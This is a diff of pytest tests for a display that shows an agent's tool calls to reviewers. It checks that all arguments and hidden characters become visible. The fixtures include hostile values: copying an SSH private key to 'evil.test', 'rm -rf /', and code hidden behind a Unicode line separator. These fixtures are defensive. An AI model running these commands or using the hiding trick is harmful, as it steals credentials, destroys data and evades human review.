@@ -234,11 +234,43 @@ def test_every_argument_of_a_strange_tool_is_shown_and_nothing_hides() -> None:
 
 
 @pytest.mark.parametrize(
+    ("arguments", "values"),
+    [
+        ({"source": ["~/.ssh/id_rsa"], "to": "x@evil.test"}, ("id_rsa", "evil.test")),
+        ({"code": {"deeply": "hidden"}}, ("hidden",)),
+        ({"code": "print(1)", "source": "rm -rf /"}, ("print(1)", "rm -rf /")),
+        ({"code": 7, "source": "rm -rf /"}, ("7", "rm -rf /")),
+    ],
+)
+def test_arguments_of_a_strange_tool_are_shown_whatever_they_are_called(
+    arguments: dict[str, Any], values: tuple[str, ...]
+) -> None:
+    shown = code_of(ToolStarted("c1", "files__copy", arguments, "copy"))
+    assert [value for value in values if value not in shown] == []
+
+
+def test_only_what_ends_a_line_for_python_ends_one_in_a_diff() -> None:
+    comment = "# safe: \u2028if ask(): stop()\x0bstop()\x0cstop()\x1cstop()\x85stop()"
+    arguments = {"cell_id": "id-1", "source": f"{comment}\rgo()\nprint(price)"}
+    call = ToolStarted("c1", "edit_cell", arguments, "edit", "edit", (CELL,))
+    assert code_of(call).split("\n") == [
+        "-price = 10",
+        f"+{spelled_out(comment)}",
+        "+go()",
+        " print(price)",
+    ]
+    assert "\\u2028if ask()" in code_of(call)
+    assert "\x0c" not in code_of(call)
+
+
+@pytest.mark.parametrize(
     ("text", "shown"),
     [
         ("x\u3164 = x\u1160 = 1", r"x\u3164 = x\u1160 = 1"),
         ('"a\U000e0041\U000e0101\ufe01"', r'"a\U000e0041\U000e0101\ufe01"'),
-        ('"a\u200d", "é\ufe0f\ufe0f"', '"a\\u200d", "é\ufe0f\\ufe0f"'),
+        ('"a\u200d", "⚠\ufe0f\ufe0f"', '"a\\u200d", "⚠\ufe0f\\ufe0f"'),
+        ("clé = clé\ufe0f", r"clé = clé\ufe0f"),
+        ('"é\u200d", "漢\u200c"', r'"é\u200d", "漢\u200c"'),
         *[(text, text) for text in ("⚠\ufe0f ❤\ufe0f\u200d🔥 👩🏽\u200d💻", "می\u200cخواهم")],
     ],
 )
